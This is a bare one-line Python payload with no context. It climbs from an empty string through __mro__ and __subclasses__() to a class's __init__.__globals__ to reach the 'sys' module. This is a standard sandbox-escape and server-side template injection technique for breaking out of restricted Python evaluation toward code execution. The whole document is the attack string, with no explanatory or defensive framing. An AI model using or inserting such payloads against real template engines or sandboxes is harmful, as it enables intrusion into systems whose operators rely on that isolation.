''.__class__.__mro__[-1].__subclasses__()[132].__init__.__globals__['sys']
